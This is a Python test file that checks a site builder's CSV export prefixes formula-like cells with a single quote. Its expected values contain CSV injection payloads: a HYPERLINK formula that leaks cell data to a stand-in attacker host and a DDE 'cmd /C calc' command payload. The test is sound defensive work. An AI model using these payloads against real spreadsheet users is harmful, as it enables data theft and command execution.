"""The CSV export neutralises spreadsheet formulas written in front matter.

The attack tests/fixtures/attacks/csv-formula builds (its run by the attack
harness checks it does no other harm); here its date/hotarari.csv is read
back with the csv module, as a spreadsheet program would split it.
"""

import csv
import io
import shutil

from support import trees

ATTACK = trees.FIXTURES / "attacks" / "csv-formula" / "content"


def test_formula_cells_start_with_a_single_quote(tmp_path):
    content = trees.copy_fixture("minimal", tmp_path / "content")
    shutil.copytree(ATTACK, content, dirs_exist_ok=True)
    result = trees.build(content, tmp_path / "output", cache=tmp_path / "cache")
    assert result.returncode == 0, result.stderr
    data = (tmp_path / "output" / "date" / "hotarari.csv").read_bytes()
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))}
    first, second = rows["proiect-formule"], rows["proiect-formule-2"]
    assert first["title"] == "'=HYPERLINK(\"https://atacator.example/?d=\"&A1,\"Detalii\")"
    assert first["initiator"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert (second["title"], second["initiator"]) == ("'+1+1 privind ceva", "'-2+3")
    starts = "=+-@\t\r\n"
    assert not [value for row in rows.values() for value in row.values() if value and value[0] in starts]
